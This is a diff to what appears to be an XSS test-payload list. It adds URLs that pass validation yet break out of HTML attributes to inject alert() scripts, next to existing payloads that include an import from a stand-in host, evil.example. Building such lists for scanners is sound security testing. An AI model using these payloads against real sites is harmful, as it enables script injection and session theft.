@@ -75,6 +75,11 @@ BASE = [
     "<link rel=import href=//evil.example/{t}>",
     "<form action=javascript:alert('{t}')><input type=submit>",
     "<svg><a xlink:href=javascript:alert('{t}')><text>x</text></a></svg>",
+    # Web addresses that pass a URL validator but break out of an attribute
+    "http://example.com/\"><script>alert('{t}')</script>",
+    "https://example.com/?q=<img/src=x/onerror=alert('{t}')>",
+    "http://example.com/#'/onmouseover='alert(\"{t}\")'",
+    "https://{t}.example/\"/onfocus=\"alert(1)\"/autofocus=\"",
     # Attribute and context breakouts
     "\"><script>alert('{t}')</script>",
     "'><script>alert('{t}')</script>",
